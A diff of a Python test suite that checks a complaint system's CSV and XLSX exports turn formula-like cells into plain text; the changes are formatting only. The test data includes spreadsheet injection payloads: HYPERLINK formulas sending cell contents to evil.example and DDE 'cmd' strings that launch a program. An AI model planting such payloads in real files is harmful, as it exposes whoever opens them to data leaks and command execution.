@@ -20,7 +20,7 @@ from tests.support.casework_scenario import OFFICER, WHEN, app_with_vault, compl
 
 COLUMNS = (("case_id", "编号"), ("category", "问题类别"), ("result", "处理结果"))
 HOSTILE = [
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
     "+1+cmd|' /C calc'!A0",
     "-2+3",
     "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -32,8 +32,9 @@ HARMLESS = ["停车收入未公示", "2026-05-06", "91350200776049653A", "a-b", 
 
 
 def rows(values: list[str]) -> list[dict[str, str]]:
-    return [{"case_id": f"c{i}", "category": value, "result": value}
-            for i, value in enumerate(values)]
+    return [
+        {"case_id": f"c{i}", "category": value, "result": value} for i, value in enumerate(values)
+    ]
 
 
 def read_csv(data: bytes) -> list[list[str]]:
@@ -47,7 +48,7 @@ def test_csv_cells_that_look_like_formulas_are_text() -> None:
     assert len(body) == len(HOSTILE) + len(HARMLESS)
     for value, (_, category, result) in zip(HOSTILE, body, strict=False):
         assert category == result == "'" + value  # the quote makes Excel show it as text
-    for value, (_, category, result) in zip(HARMLESS, body[len(HOSTILE):], strict=True):
+    for value, (_, category, result) in zip(HARMLESS, body[len(HOSTILE) :], strict=True):
         assert category == result == value  # nothing else is touched
 
 
@@ -74,7 +75,9 @@ def test_an_error_code_is_text_too() -> None:
     data = to_xlsx([("s", COLUMNS, rows(["#N/A", "#REF!"]))])
     sheet = openpyxl.load_workbook(io.BytesIO(data))["s"]
     assert [(c.value, c.data_type) for (_, c, _) in sheet.iter_rows(min_row=2)] == [
-        ("#N/A", "s"), ("#REF!", "s")]
+        ("#N/A", "s"),
+        ("#REF!", "s"),
+    ]
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@@ -82,7 +85,7 @@ def test_a_complaint_category_from_the_public_is_text_in_the_ledger(fmt: str) ->
     """The public lodges complaints: what it types reaches the unit's monthly ledger."""
     app = app_with_vault(FakeClock(WHEN))
     public = Identity("public", "anonymous", "putian")
-    hostile = "=HYPERLINK(\"http://evil.example\",\"详情\")"
+    hostile = '=HYPERLINK("http://evil.example","详情")'
     app.receive_complaint(public, replace(complaint(), category=hostile, received_at=None))
     ledgers = app.monthly_ledgers(OFFICER, "licheng", WHEN.year, WHEN.month)
     assert [r["category"] for r in ledgers.problems] == [hostile]
